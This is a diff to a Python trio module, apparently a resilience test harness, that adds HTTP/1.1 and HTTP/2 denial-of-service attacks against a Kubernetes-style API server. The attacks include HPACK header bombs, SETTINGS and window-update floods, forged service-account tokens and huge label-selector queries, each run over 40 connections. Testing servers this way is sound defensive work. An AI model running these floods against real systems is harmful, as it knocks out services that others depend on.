@@ -1,7 +1,11 @@
-"""Attacks on memory by clients that do not sign in, and floods of cheap requests and frames."""
+"""Attacks on memory by clients that do not sign in, and floods of cheap requests and frames.
+
+Those of 40 connections cost the server the most processor time that an unauthenticated client can make it spend:
+parsing, refusing and answering frames."""
 
 from __future__ import annotations
 
+import base64
 import struct
 from collections.abc import Awaitable, Callable
 
@@ -13,6 +17,9 @@ Attack = Callable[[Target], Awaitable[None]]
 PATH = "/api/v1/namespaces/default/configmaps"
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">I", 0)[1:] + b"\x04\x00" + bytes(4)
 MB = 1024 * 1024
+# In the form of a service account token, with a signature that does not match.
+_PARTS = ('{"alg":"RS256","kid":"none"}', '{"iss":"https://kubernetes.default.svc","sub":"x"}', "x" * 256)
+WRONG_TOKEN = ".".join(base64.urlsafe_b64encode(part.encode()).decode().rstrip("=") for part in _PARTS)
 
 
 async def _send_until_closed(stream: trio.SocketStream, data: bytes) -> None:
@@ -77,6 +84,101 @@ async def _priorities(target: Target) -> None:
         await _send_until_closed(stream, frame * 1000)
 
 
+async def _drained(stream: trio.SocketStream, data: bytes) -> None:
+    """Send the same again and again, and read what the server responds, until it closes the connection."""
+    async with trio.open_nursery() as nursery:
+        nursery.start_soon(_send_until_closed, stream, data)
+        try:
+            while await stream.receive_some(MB):
+                pass
+        finally:
+            nursery.cancel_scope.cancel()
+
+
+def _sent_in_full(request: bytes) -> Callable[[Target], Awaitable[None]]:
+    """Pipelined: the next request is on its way before the response to the last one."""
+
+    async def attack(target: Target) -> None:
+        async with await target.connect() as stream:
+            await _drained(stream, request)
+
+    return attack
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload
+
+
+def _sent_as_frames(repeated: bytes, before: bytes = b"") -> Callable[[Target], Awaitable[None]]:
+    async def attack(target: Target) -> None:
+        async with await target.connect() as stream:
+            await stream.send_all(PREFACE + before)
+            await _drained(stream, repeated)
+
+    return attack
+
+
+# GET, http, and the path and authority, without Huffman code or indexing.
+_GET = b"\x82\x86\x04" + bytes((len(PATH),)) + PATH.encode() + b"\x01\x01a"
+
+
+def _streams(count: int, block: bytes, first: int = 1) -> bytes:
+    """So many requests, with blocks that fit in one frame."""
+    return b"".join(_frame(1, 5, first + 2 * index, block) for index in range(count))
+
+
+async def _header_bombs(target: Target) -> None:
+    """Blocks of 250 KB, in 16 frames each, of short fields that all enter the decoder's table."""
+    fields = b"\x40\x01x\x01y" * 3200
+    async with await target.connect() as stream:
+        await stream.send_all(PREFACE)
+        number = 1
+        async with trio.open_nursery() as nursery:
+            nursery.start_soon(_read_all, stream, nursery.cancel_scope)
+            while True:
+                frames = _frame(1, 1, number, _GET)
+                for index in range(16):
+                    frames += _frame(9, 4 if index == 15 else 0, number, fields)
+                await stream.send_all(frames)
+                number += 2
+
+
+async def _read_all(stream: trio.SocketStream, scope: trio.CancelScope) -> None:
+    try:
+        while await stream.receive_some(MB):
+            pass
+    except trio.BrokenResourceError:
+        pass
+    scope.cancel()
+
+
+def _window_games() -> Callable[[Target], Awaitable[None]]:
+    """Responses that wait in 200 streams for windows which open byte by byte, and change for all of them at once."""
+    closed = _frame(4, 0, 0, struct.pack(">HI", 4, 0))
+    opened = b"".join(_frame(8, 0, 2 * index + 1, struct.pack(">I", 1)) for index in range(200))
+    changed = b"".join(_frame(4, 0, 0, struct.pack(">HI", 4, size)) for size in (1, 0) * 4)
+    return _sent_as_frames(opened + changed, closed + _streams(200, _GET))
+
+
+async def _wrong_streams(target: Target) -> None:
+    """Requests with bodies that never arrive whole and a token that nobody has, 200 at once."""
+    token = b"Bearer " + WRONG_TOKEN.encode()
+    block = b"\x83" + _GET[1:] + b"\x0f\x08" + _length(len(token)) + token
+    async with await target.connect() as stream, trio.open_nursery() as nursery:
+        await stream.send_all(PREFACE)
+        nursery.start_soon(_read_all, stream, nursery.cancel_scope)
+        for first in range(1, 1 << 20, 2):
+            await stream.send_all(_frame(1, 4, first, block))
+
+
+def _length(size: int) -> bytes:
+    """The length of a literal, as HPACK writes it."""
+    if size < 127:
+        return bytes((size,))
+    size -= 127
+    return bytes((127, size & 0x7F | 0x80, size >> 7))
+
+
 def _repeated(count: int, one: Callable[[Target], Awaitable[None]]) -> Attack:
     async def attack(target: Target) -> None:
         await _several(target, count, one)
@@ -99,4 +201,14 @@ UNAUTHENTICATED: dict[str, Attack] = {
     "40 HTTP/2 frames of 16 MB": _repeated(40, _large_frame),
     "PRIORITY floods": _repeated(8, _priorities),
     "gets on 500 connections by a user without rights": _flood(NOBODY, 500),
+    "40 connections: long targets": _repeated(
+        40, _sent_in_full(head("GET", f"{PATH}?labelSelector=" + "a%2C" * 250_000, token=""))
+    ),
+    "40 connections: wrong tokens": _repeated(40, _sent_in_full(head("GET", PATH, token=WRONG_TOKEN) * 100)),
+    "40 connections: header bombs": _repeated(40, _header_bombs),
+    "40 connections: SETTINGS floods": _repeated(
+        40, _sent_as_frames(_frame(4, 0, 0, struct.pack(">HI", 4, 1 << 20)) * 1000)
+    ),
+    "40 connections: window games": _repeated(40, _window_games()),
+    "40 connections: wrong tokens in HTTP/2": _repeated(40, _wrong_streams),
 }
